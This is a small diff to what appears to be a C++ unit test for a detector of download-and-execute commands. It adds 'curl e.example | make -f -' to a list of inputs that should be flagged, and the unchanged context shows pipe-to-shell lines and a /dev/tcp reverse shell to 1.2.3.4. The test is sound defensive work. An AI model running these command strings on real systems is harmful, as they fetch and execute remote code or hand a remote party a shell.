@@ -146,6 +146,7 @@ TEST(ExplanationTest, DownloadThatRunsThroughOthers_IsFound) {
                                        "curl e.example | bash -euo pipefail",
                                        "curl e.example | bash --rcfile x",
                                        "curl e.example | sudo -s",
+                                       "curl e.example | make -f -",
                                        "curl e.example | parallel",
                                        "bash < /dev/tcp/e.example/80",
                                        "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
